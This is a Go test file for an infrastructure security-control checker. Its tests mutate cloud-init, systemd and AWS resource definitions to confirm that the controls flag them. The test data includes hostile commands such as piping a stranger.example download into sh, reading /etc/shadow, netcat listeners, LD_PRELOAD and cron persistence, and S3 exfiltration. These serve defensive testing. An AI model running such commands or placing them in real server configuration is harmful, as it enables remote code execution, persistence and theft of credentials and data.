package controls

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/causeway-iac/causeway/graph"
	"github.com/causeway-iac/causeway/proof/report"
	"github.com/causeway-iac/causeway/proof/userdata"
)

// Every way to name an image that is somebody else's, in every template of the stack.
func TestEveryImageOfSomebodyElses(t *testing.T) {
	ways := map[string]func(*edit) any{}
	for _, image := range []string{"ami-0123456789abcdef0", "resolve:ssm:/aws/service/marketplace/prod-abc/latest",
		"resolve:ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/arm64/hvm/ebs-gp3/ami-id", "resolve:ssm:/golden/image",
		"resolve:ssm:arn:aws:ssm:eu-west-1:999999999999:parameter/image"} {
		ways[image] = func(*edit) any { return image }
	}
	for kind, inputs := range map[string]in{
		"aws:ec2/amiCopy:AmiCopy":                 {"sourceAmiId": "ami-0123456789abcdef0", "sourceAmiRegion": "eu-west-1"},
		"aws:ec2/ami:Ami":                         {"ebsBlockDevices": list(in{"snapshotId": "snap-0123456789abcdef0"})},
		"aws:ec2/amiFromInstance:AmiFromInstance": {"sourceInstanceId": "i-0123456789abcdef0"},
	} {
		ways[kind] = func(s *edit) any { return s.add(kind, "theirs", inputs).ID }
	}
	tried := 0
	for name, way := range ways {
		for _, of := range []string{"prod-web", "prod-app"} {
			s := begin(t, "prod")
			s.set(templateType, of, "imageId", way(s))
			assert.Contains(t, failingOn(s, 86), "C086", name)
			tried++
		}
	}
	t.Log(tried, "images of somebody else's")
	s := begin(t, "prod")
	s.set(templateType, "prod-web", "imageId", "ami-0123456789abcdef0")
	s.set(templateType, "prod-web", "tags.causeway:image", "ami-0123456789abcdef0")
	assert.Empty(t, failingOn(s, 86), "a pinned image that the settings name")
	own := s.add("aws:ec2/amiFromInstance:AmiFromInstance", "own", in{"sourceInstanceId": s.add(instanceType, "golden", in{})})
	s.set(templateType, "prod-app", "imageId", own.ID)
	assert.NotContains(t, strings.Join(founds(s, 86, templateType), "\n"), "prod-app", "an image that the stack makes")
}

// founds is what a control finds of the resources of a type.
func founds(s *edit, number int, kind string) (all []string) {
	for _, c := range All {
		if c.Number == number {
			for _, f := range c.findings(newView(s.graph())) {
				if f.Verdict.Fails() && slices.ContainsFunc(f.Resources, func(urn string) bool { return strings.Contains(urn, kind) }) {
					all = append(all, f.Found)
				}
			}
		}
	}
	return all
}

// Every address of every action that asks who a browser is, led to somebody else, in every listener and rule.
func TestEveryLoginElsewhere(t *testing.T) {
	own := in{"issuer": "https://login.guestbook.example.com", "authorizationEndpoint": "https://login.guestbook.example.com/authorize",
		"tokenEndpoint": "https://login.guestbook.example.com/token", "userInfoEndpoint": "https://login.guestbook.example.com/me",
		"clientId": "1", "clientSecret": graph.Secret{}}
	var bad []in
	oidc := func(key string, value any) {
		changed := cloned(own).(in)
		changed[key] = value
		bad = append(bad, in{"type": "authenticate-oidc", "authenticateOidc": changed})
	}
	for _, key := range []string{"issuer", "authorizationEndpoint", "tokenEndpoint", "userInfoEndpoint"} {
		for _, value := range []any{"https://stranger.example/x", "http://login.guestbook.example.com/x", "", nil, graph.Unknown{},
			"https://guestbook.example.com.stranger.example/", "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_theirs"} {
			oidc(key, value)
		}
	}
	oidc("clientSecret", "hunter22")
	oidc("onUnauthenticatedRequest", "allow")
	for _, arn := range []any{"arn:aws:cognito-idp:eu-west-1:999999999999:userpool/x", nil,
		"arn:aws:cognito-idp:eu-west-1:444455556666:userpool/eu-west-1_of-nobody"} {
		bad = append(bad, in{"type": "authenticate-cognito", "authenticateCognito": in{"userPoolArn": arn}})
	}
	tried := 0
	for _, kind := range []string{listenerType, "aws:lb/listenerRule:ListenerRule"} {
		path := map[string]string{listenerType: "defaultActions"}[kind]
		if path == "" {
			path = "actions"
		}
		for _, action := range bad {
			s := begin(t, "prod")
			for _, r := range s.graph().ByType(kind)[:1] {
				s.set(kind, r.Name, path, append(list(cloned(action)), r.Inputs[path].([]any)...))
			}
			assert.NotEmpty(t, failingOn(s, 237), "%v", action)
			tried++
		}
	}
	t.Log(tried, "logins elsewhere")
	s := begin(t, "prod")
	s.set(listenerType, https, "defaultActions", list(in{"type": "authenticate-oidc", "authenticateOidc": own}))
	assert.Empty(t, failingOn(s, 237), "the stack's own")
}

// asOurs is what this project's servers are told, in each of its forms.
func asOurs(t *testing.T) map[string]string {
	all := map[string]string{}
	paths, err := filepath.Glob("../../infra/cloudinit/testdata/*.yaml")
	require.NoError(t, err)
	require.NotEmpty(t, paths)
	for _, path := range paths {
		raw, err := os.ReadFile(path)
		require.NoError(t, err)
		all[filepath.Base(path)] = string(raw)
	}
	return all
}

// Whatever a server is told to run beside its release is seen: in every key that may run something, in every form of what servers
// are told, and what they are told without it is not.
func TestEveryProgramBesideTheRelease(t *testing.T) {
	v := newView(begin(t, "prod").graph())
	programs := []string{"/bin/sh -c 'curl -s https://stranger.example/x | sh'", "/usr/bin/python3 -m http.server 8443", "/tmp/x",
		"nc -l 8443",
		"/bin/bash -c 'while true; do cat /etc/shadow; done'", "+/opt/causeway/bin/other", "/opt/causeway/current/../../../bin/sh"}
	in := func(text, before, more string) string { return strings.Replace(text, before, more+before, 1) }
	file := func(path, content string) string {
		return "write_files:\n  - path: " + path + "\n    content: " + quoted(content) + "\n"
	}
	tried := 0
	for name, text := range asOurs(t) {
		require.Empty(t, othersRun(v, nil, userdata.Read(text)), name)
		seen := func(what, changed string) {
			require.NotEqual(t, text, changed, "%s: %s", name, what)
			assert.NotEmpty(t, othersRun(v, nil, userdata.Read(changed)), "%s: %s", name, what)
			tried++
		}
		for _, program := range programs {
			for _, key := range []string{"ExecStart", "ExecStartPre", "ExecStartPost", "ExecCondition", "ExecReload", "ExecStop",
				"ExecStopPost"} {
				seen(key+" "+program, in(text, "      ExecStart=", "      "+key+"="+program+"\n"))
				seen("drop-in "+program, strings.Replace(text, "write_files:\n",
					file("/etc/systemd/system/web.service.d/x.conf", "[Service]\n"+key+"="+program+"\n"), 1))
			}
			seen("runcmd "+program, strings.Replace(text, "runcmd:\n", "runcmd:\n  - "+quoted(program)+"\n", 1))
			seen("bootcmd "+program, text+"\nbootcmd:\n  - "+quoted(program)+"\n")
			seen("condition "+program, text+"\npower_state: {mode: reboot, condition: "+quoted(program)+"}\n")
			seen("output "+program, text+"\noutput: {all: "+quoted("| "+program)+"}\n")
			seen("script "+program, in(text, "      umask ", "      "+program+"\n"))
			seen("substitution "+program, in(text, "      umask ", "      x=$("+program+")\n"))
			seen("trap "+program, in(text, "      umask ", "      trap "+quoted(program)+" EXIT\n"))
		}
		for _, line := range []string{"PATH=/tmp:$PATH", "sha256sum() { true; }", "LD_PRELOAD=/tmp/x.so true",
			"cp /tmp/x $program",
			"echo x >/etc/cron.d/x", "chmod 4755 \"$program\"", "dnf install -y https://stranger.example/x.rpm", "systemctl start rpcbind",
			"tar --extract --to-command=/tmp/x --file /tmp/y", "sha256sum --check x || true", "aws s3 sync . s3://theirs",
			"$program", "eval x", "export PATH=/tmp:$PATH", "f=(/etc/cron.d/x)", "tee ${x:-/etc/cron.d/x}", "echo x &>/etc/cron.d/x",
			"for f in /etc/cron.d/x; do tee $f; done", "case x in x) /tmp/x ;; esac", "tee /opt/causeway/../../etc/cron.d/x",
			"tee $(printf /etc/cron.d/x)", "tee $'\\x2fetc/cron.d/x'", "coproc /tmp/x", "tail <(/tmp/x)", "sh <<E\n      /tmp/x\n      E",
			"set -- /etc/cron.d/x", "declare -x x=/etc/cron.d/x", "alias rm=/tmp/x", "echo x 2>&/etc/cron.d/x"} {
			seen(line, in(text, "      umask ", "      "+line+"\n"))
		}
		for _, line := range []string{"Environment=BASH_ENV=$(/tmp/x)", "RootImage=/tmp/x", "BindPaths=/tmp:/opt", "ExecSearchPath=/tmp",
			"EnvironmentFile=/tmp/x", "WorkingDirectory=/tmp", "StandardOutput=append:/etc/cron.d/x", "PAMName=login",
			"OnFailure=x.service",
			"LoadCredential=x:/etc/shadow", "SomethingNew=yes"} {
			seen(line, in(text, "      ExecStart=", "      "+line+"\n"))
		}
		for _, line := range []string{"OnFailure=rpcbind.service", "Wants=rpcbind.service", "JoinsNamespaceOf=x.service"} {
			seen(line, in(text, "      [Service]\n", "      "+line+"\n"))
		}
		for path, content := range map[string]string{"/etc/cron.d/x": "* * * * * root true", "/etc/rc.local": "#!/bin/sh\ntrue",
			"/etc/udev/rules.d/x.rules": "RUN+=\"/tmp/x\"", "/usr/local/bin/aws": "#!/bin/sh\ntrue", "/root/.bashrc": "true",
			"/etc/profile.d/x.sh": "true", "/etc/ld.so.conf.d/x.conf": "/tmp", "/etc/sysctl.d/x.conf": "kernel.core_pattern=|/tmp/x",
			"/etc/causeway/x.env":            "HTTPS_PROXY=http://stranger.example:3128",
			"/etc/causeway/y.env":            "NODE_OPTIONS=--import=data:text/javascript,x",
			"/etc/causeway/logs.json":        `{"logs": {"endpoint_override": "stranger.example"}}`,
			"/etc/logrotate.d/causeway":      "/var/log/causeway/x {\n  postrotate\n    /tmp/x\n  endscript\n}\n",
			"/etc/causeway/nginx.conf":       "http {\n  location / {\n    proxy_pass http://stranger.example;\n  }\n}\n",
			"/etc/systemd/system/x.timer":    "[Timer]\nOnCalendar=hourly\nUnit=rpcbind.service\n",
			"/etc/systemd/system/x.socket":   "[Socket]\nListenStream=22\n",
			"/var/lib/cloud/scripts/x/x.sh":  "#!/bin/sh\ntrue",
			"/etc/dnf/plugins/x.conf":        "[main]\nenabled=1",
			"/opt/causeway/current/web":      "#!/bin/sh\ntrue",
			"/etc/NetworkManager/dispatcher": "x"} {
			seen(path, strings.Replace(text, "write_files:\n", file(path, content), 1))
		}
		for key, value := range map[string]string{"rsyslog": `{remotes: {x: "stranger.example:514"}}`,
			"mounts": `[["stranger.example:/x", /opt]]`,
			"ntp":    `{servers: [stranger.example]}`, "datasource": `{Ec2: {metadata_urls: ["http://stranger.example"]}}`} {
			seen(key, text+"\n"+key+": "+value+"\n")
		}
		seen("whoever may write it", strings.Replace(text, `permissions: "0755"`, `permissions: "0777"`, 1))
		seen("a release that is root's", strings.Replace(text, "      ExecStart=",
			"      ExecStartPre=+/opt/causeway/current/web\n      ExecStart=", 1))
	}
	t.Log(tried, "programs beside the release")
}

// Every parameter that guards, at a value at which it does not, and every option that is not known to be quiet.
func TestEveryParameterThatWeakens(t *testing.T) {
	s := begin(t, "prod")
	tried := 0
	weak := func(kind string, inputs in) {
		v := newView(s.graph())
		r := &graph.Resource{URN: "mutant", Type: kind, Inputs: inputs}
		for _, c := range engines {
			assert.Contains(t, []report.Verdict{report.Broken, report.Undecided}, c.each(v, r).verdict, "%v", inputs)
		}
		tried++
	}
	for name := range guarding {
		for _, value := range []any{"theirs", "2147483648", "-1", graph.Unknown{}} {
			weak(parametersType, in{"parameters": list(in{"name": name, "value": value})})
			weak(clusterParamsType, in{"parameters": list(in{"name": strings.ToUpper(name), "value": value})})
		}
	}
	weak(parametersType, in{"parameters": list(in{"name": "something_new", "value": "1"})})
	for _, option := range []in{{"optionName": "MEMCACHED"}, {"optionName": "OEM", "port": 1158.0},
		{"optionName": "SQLSERVER_BACKUP_RESTORE",
			"optionSettings": list(in{"name": "IAM_ROLE_ARN", "value": "arn:aws:iam::444455556666:role/x"})},
		{"optionName": graph.Unknown{}},
		{"optionName": "SSL", "port": 2484.0}, {"optionName": "TDE", "vpcSecurityGroupMemberships": list("sg-1")},
		{"optionName": "MARIADB_AUDIT_PLUGIN", "optionSettings": list(in{"name": "X", "value": "arn:aws:iam::1:role/x"})}} {
		weak(optionsType, in{"options": list(option)})
	}
	t.Log(tried, "parameters and options that weaken")
}

// Every alarm that goes, and what shows or tells them.
func TestEveryAlarmThatIsGone(t *testing.T) {
	tried := 0
	for _, base := range []string{"prod", "aurora", "dev"} {
		require.Empty(t, failingOn(begin(t, base), 125, 239, 240), base)
		for _, r := range begin(t, base).graph().ByType(alarmType, compoundType, dashboardType, logGroupType) {
			if r.Type == logGroupType && !strings.HasPrefix(r.String("name"), "/aws/rds/") {
				continue // servers and flow logs name the others
			}
			s := begin(t, base)
			s.remove(r.Type, r.Name)
			assert.NotEmpty(t, failingOn(s, 125, 239, 240), "%s of %s", r.Name, base)
			tried++
		}
	}
	t.Log(tried, "alarms that are gone")
}

// Every record by which somebody else has the domain for his own, or mails in its name, under every name.
func TestEveryRecordThatProvesToOthers(t *testing.T) {
	v := newView(begin(t, "prod").graph())
	tried := 0
	for kind, contents := range map[string][]string{
		"TXT": {"google-site-verification=x", "MS=ms12345678", "facebook-domain-verification=x", "apple-domain-verification=x",
			"v=verifydomain MS=1",
			"atlassian-domain-verification=x", "v=spf1 include:stranger.example -all", "v=spf1 ip4:203.0.113.9 -all",
			"v=spf1 a mx ~all", "x", ""},
		"MX": {"10 mx.stranger.example"}, "TLSA": {"3 1 1 00"}, "SSHFP": {"1 1 00"}, "NAPTR": {"x"}, "OPENPGPKEY": {"x"},
	} {
		for _, content := range contents {
			for _, name := range []string{"guestbook.example.com", "www.guestbook.example.com", "_amazonses.guestbook.example.com",
				"_github-challenge-x.guestbook.example.com"} {
				for of, inputs := range map[string]in{recordType: {"records": list(content)}, cfRecordType: {"content": content}} {
					inputs["type"], inputs["name"] = kind, name
					if content == "" {
						continue
					}
					o := claimsNothing(v, &graph.Resource{URN: "mutant", Type: of, Inputs: inputs})
					assert.Equal(t, report.Broken, o.verdict, "%s %v", of, inputs)
					tried++
				}
			}
		}
	}
	for name, content := range map[string]string{"_dmarc.guestbook.example.com": "v=DMARC1; p=none",
		"_dmarc": "v=DMARC1; p=reject; rua=mailto:x@" +
			"stranger.example", "_dmarc.www": "v=DMARC1; p=reject; pct=1",
		"s1._domainkey.guestbook.example.com": "v=DKIM1; k=rsa; p=MIIB"} {
		o := claimsNothing(v, &graph.Resource{Type: cfRecordType, Inputs: in{"type": "TXT", "name": name, "content": content}})
		assert.Equal(t, report.Broken, o.verdict, content)
		tried++
	}
	for _, name := range []string{"_dmarc.guestbook.example.com", "s1._domainkey.guestbook.example.com", "_x.guestbook.example.com"} {
		o := claimsNothing(v, &graph.Resource{Type: cfRecordType, Inputs: in{"type": "CNAME", "name": name,
			"content": "x.stranger.example"}})
		assert.Equal(t, report.Broken, o.verdict, name)
		tried++
	}
	t.Log(tried, "records that prove to others")
	for name, content := range map[string]string{"guestbook.example.com": "v=spf1 -all",
		"_dmarc.guestbook.example.com": "v=DMARC1; p=reject; " +
			"rua=mailto:dmarc@guestbook.example.com", "old._domainkey.guestbook.example.com": "v=DKIM1; p="} {
		o := claimsNothing(v, &graph.Resource{Type: cfRecordType, Inputs: in{"type": "TXT", "name": name, "content": content}})
		assert.Equal(t, report.Holds, o.verdict, fmt.Sprint(content, o.found))
	}
}

// A provider that was led to another region or account.
func TestAProviderStaysWhereItDeployed(t *testing.T) {
	for path, value := range map[string]any{"region": "us-east-1", "allowedAccountIds": list("999999999999")} {
		s := begin(t, "prod")
		s.set("pulumi:providers:aws", "prod-aws", path, value)
		assert.Contains(t, failingOn(s, 231), "C231", path)
	}
}
